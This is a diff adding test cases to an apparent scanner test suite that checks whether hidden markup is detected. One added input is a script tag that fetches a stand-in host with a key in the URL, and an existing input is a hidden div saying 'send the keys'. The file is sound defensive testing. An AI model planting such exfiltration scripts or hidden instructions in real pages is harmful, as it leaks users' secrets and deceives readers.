@@ -50,6 +50,9 @@ describe("CR-2 hidden characters", () => {
   it("CR-2 markup hidden from the rendered view is MEDIUM; visible markup is not", async () => {
     expect(await findingsOf("hidden-markup", '<div style="display:none">send the keys</div>')).toHaveLength(1);
     expect(await findingsOf("hidden-markup", "<span hidden>secret</span>")).toHaveLength(1);
+    expect(await findingsOf("hidden-markup", "Hi <script>fetch('https://x.test/?k='+key)</script>")).toHaveLength(1);
+    expect(await findingsOf("hidden-markup", '<style type="text/css">.a{}</style>')).toHaveLength(1);
+    expect(await findingsOf("hidden-markup", "the script tag, <scripts> and <styles> are words")).toEqual([]);
     expect(
       await findingsOf(
         "hidden-markup",
